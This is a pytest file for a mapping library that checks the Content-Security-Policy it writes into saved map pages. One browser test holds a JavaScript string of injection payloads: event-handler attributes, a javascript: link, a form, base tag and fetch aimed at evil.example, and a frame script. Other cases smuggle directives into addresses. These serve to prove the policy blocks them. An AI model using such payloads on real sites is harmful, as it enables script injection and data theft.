"""A page runs its own scripts and loads what it was asked for; everything else is refused."""

from __future__ import annotations

import re
import warnings
from html import unescape

import browser as web
import folium
import geopandas
import pytest
from branca.element import Element, IFrame
from shapely.geometry import Point

from khorgos.maps import Explorer, Layer, draw, save
from khorgos.maps.page import drawing
from khorgos.maps.page.policy import policy
from khorgos.maps.page.rendering import render

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
GO = "'sha256-5KYv+PUboo5h+0+YAtGRPbwv5d/QxzHslP4YGnUaxRw='"  # of "go()"
FRAMED = "data:text/html;charset=utf-8;base64,PHNjcmlwdD5nbygpPC9zY3JpcHQ+"  # that in a page


def yards() -> folium.Map:
    frame = geopandas.GeoDataFrame({"yard": ["Altynkol"]}, geometry=[Point(80.26, 44.18)], crs=4326)
    return draw(Layer(frame, name="Yards", label="yard"))


def directives(text: str) -> dict[str, str]:
    return dict(part.split(" ", 1) for part in text.split("; "))


def allowed(html: str) -> dict[str, str]:
    """The one policy of a page."""
    (found,) = META.findall(html)
    return directives(found)


@pytest.mark.parametrize(
    ("part", "name", "value"),
    [
        ("<script>go()</script>", "script-src", f"{GO}"),
        ("<style>go()</style>", "style-src", f"{GO}"),
        ('<script type="application/json">{}</script>', "script-src", GO),
        (
            '<script src="https://a.org/b@1/c.js?d#e"></script>',
            "script-src",
            "https://a.org/b@1/c.js",
        ),
        ('<script src="//a.org/b;c,d"></script>', "script-src", "https://a.org/b%3Bc%2Cd"),
        ('<link rel="stylesheet" href="https://a.org/b.css">', "style-src", "https://a.org/b.css"),
        ('<link rel="stylesheet" href="https://a.org/b.css">', "font-src", "data: https://a.org"),
        ('<p style="color: red">', "style-src", "'unsafe-inline'"),
        ('<iframe src="data:,"></iframe>', "frame-src", "data:"),
        ("", "img-src", "data:"),
        ("", "default-src", "'none'"),
        ("", "base-uri", "'none'"),
        ("", "form-action", "'none'"),
    ],
)
def test_a_part_of_a_page_may_do_what_it_needs(part, name, value):
    assert directives(policy([part], "go()"))[name].removeprefix(f"{GO} ") == value


@pytest.mark.parametrize(
    "part",
    [
        '<iframe srcdoc="&lt;script>go()&lt;/script>"></iframe>',
        '<iframe src="data:text/html,%3Cscript>go()%3C/script>"></iframe>',
        f'<iframe src="{FRAMED}"></iframe><iframe src="data:text/html;base64,%"></iframe>',
        f"<script>\"<iframe src='{FRAMED}'>\"</script>",
    ],
)
def test_a_page_in_a_frame_is_held_to_the_policy_around_it(part):
    assert GO in directives(policy([part], ""))["script-src"].split()


def test_a_browser_reads_lines_in_one_way():
    ends = [f"<script>a{end}b</script>" for end in ("\n", "\r\n", "\r")]
    assert len({policy([part], "") for part in ends}) == 1


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://tile.example.org/{z}/{x}/{y}.png", "https://tile.example.org"),
        ("https://{s}.tile.example.org/{z}.png", "https://*.tile.example.org"),
        ("https://a.{s}.example.org/{z}.png", "https://*.example.org"),
        ("https://tiles-{s}.example.org:8080/", "https://*.example.org:8080"),
        ("//example.org/a?b", "https://example.org"),
        ("https://example.org;script-src/*", ""),
        ("https://example.org'unsafe-inline'", ""),
        ("no address", ""),
    ],
)
def test_an_address_opens_its_host_and_no_other(address, host):
    found = directives(policy([], "", [address]))
    assert found["img-src"] == f"data: {host}".strip()
    assert found.get("connect-src", "") == host


def test_a_handler_in_an_attribute_is_told():
    for part, script in [('<b onclick="a()">', ""), ("", "$(`<b class=c ONCLICK='a()'>`)")]:
        with pytest.warns(UserWarning, match="page of khorgos: onclick; add them in a script"):
            policy([part], script)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        policy(['<b title="on=1">one = two</b>'], "1 < b; once = 2")


def test_each_page_has_a_policy_and_the_same_one_each_time(tmp_path):
    html = save(yards(), tmp_path / "a.html").read_text(encoding="utf-8")
    found = allowed(html)
    assert re.fullmatch(r"('sha256-[\w+/]{43}=' ?){4}", found["script-src"])
    assert re.fullmatch(r"('sha256-[\w+/]{43}=' ?){5}", found["style-src"])
    assert set(found) - {"script-src", "style-src"} == {
        "default-src", "img-src", "base-uri", "form-action"
    }  # fmt: skip
    assert html.index("Content-Security-Policy") < min(map(html.index, ("<style", "<script")))
    assert html.index("charset=UTF-8") < html.index("Content-Security-Policy") < 1024
    again = save(yards(), tmp_path / "b.html").read_text(encoding="utf-8")
    assert allowed(again) == found
    (frame,) = re.findall(r'srcdoc="([^"]*)"', yards()._repr_html_())
    assert allowed(unescape(frame)) == found


def test_what_was_asked_for_may_be_loaded(tmp_path):
    linked = save(yards(), tmp_path / "a.html", offline=False).read_text(encoding="utf-8")
    assert "/leaflet.js" in allowed(linked)["script-src"]
    assert "/leaflet.css" in allowed(linked)["style-src"]
    tiles = draw(tiles="OpenStreetMap").get_root().render()
    assert allowed(tiles)["img-src"] == "data: https://tile.openstreetmap.org"
    chart = yards()
    vega = folium.VegaLite({"mark": "bar"})
    folium.Marker([44, 80], popup=folium.Popup().add_child(vega)).add_to(chart)
    found = allowed(render(chart.get_root(), offline=False))["script-src"]
    assert "/vega-lite@" in found
    assert found.endswith("'unsafe-eval'")
    plain = folium.Map(tiles=None).get_root()
    assert allowed(render(plain))["default-src"] == "'none'"
    # What folium and its plug-ins fetch, and from where, is not ours to say.
    assert not META.findall(render(plain, offline=False))


def rich() -> folium.Map:
    """With all that folium puts HTML into."""
    page = yards()
    text = '<b style="color: red">bold</b>'
    popup = folium.Popup(IFrame("<p>framed</p>", width="200px", height="99px"))
    folium.Marker([44, 80], popup=popup, tooltip=text).add_to(page)
    folium.CircleMarker([44, 81], popup=folium.Popup(text, show=True)).add_to(page)
    folium.Marker([44, 82], icon=folium.DivIcon(html=text), popup=folium.Html(text)).add_to(page)
    folium.GeoJson({"type": "Point", "coordinates": [83, 44]}, tooltip=text).add_to(page)
    page.get_root().html.add_child(Element(f"<p>{text}</p><script>window.own = 1</script>"))
    page.get_root().script.add_child(Element("window.last = 1;"))
    return page


SLIP_IN = """async () => {
  window.ran = [];
  const box = document.createElement('div');
  document.body.append(box);
  box.innerHTML = `<img src="data:," onerror="ran.push('image')"><svg onload="ran.push('svg')">
    </svg><a href="javascript:ran.push('link')">a</a><form action="https://evil.example/"></form>
    <iframe srcdoc="<script>parent.ran.push('frame')<\\/script>"></iframe>
    <base href="https://evil.example/">`;
  box.querySelector('a').click();
  box.querySelector('form').submit();
  const script = document.createElement('script');
  script.textContent = "ran.push('script')";
  document.body.append(script);
  // What Playwright evaluates may evaluate in its turn, but not afterwards.
  try { setTimeout("ran.push('timer')"); } catch {}
  await fetch('https://evil.example/').catch(() => {});
  await new Promise(done => setTimeout(done, 300));
  return {ran, base: document.baseURI};
}"""


@pytest.mark.browser
def test_nothing_that_is_slipped_in_runs(chromium, tmp_path):
    path = save(yards(), tmp_path / "a.html")
    with web.visit(chromium, path) as seen:
        assert not seen.complaints
        done = seen.page.evaluate(SLIP_IN)
        assert len(seen.complaints) > 6
    assert done == {"ran": [], "base": path.as_uri()}


@pytest.mark.browser
def test_what_users_add_is_shown_and_runs(chromium, tmp_path):
    path = save(rich(), tmp_path / "a.html")
    with web.visit(chromium, path) as seen:
        seen.settle()
        assert seen.page.evaluate("own + last") == 2
        bold = seen.page.locator(".leaflet-popup-content b")
        assert bold.evaluate("b => getComputedStyle(b).color") == "rgb(255, 0, 0)"
        seen.assert_quiet(path)


@pytest.mark.browser
def test_a_notebook_shows_an_explorer(chromium, corridor, tmp_path, monkeypatch):
    monkeypatch.setattr(drawing, "MOST_PLAIN", 0)  # compressed, as one of many hubs
    page = draw(corridor, Explorer(("Xi'an", "Almaty"), ("fast",)))
    path = tmp_path / "notebook.html"
    path.write_text(f"<!DOCTYPE html>{page._repr_html_()}", encoding="utf-8")
    told: list[str] = []
    with web.tab(chromium, 1280, 800) as tab:
        tab.on("console", lambda message: told.append(message.text))
        tab.on("pageerror", lambda error: told.append(str(error)))
        tab.goto(path.as_uri())
        frame = tab.frames[1]
        frame.wait_for_function(web.DRAWN)
        frame.locator("select[name=to]").select_option(index=0)
        assert frame.locator(".k-total").count() == 1
    assert told == []
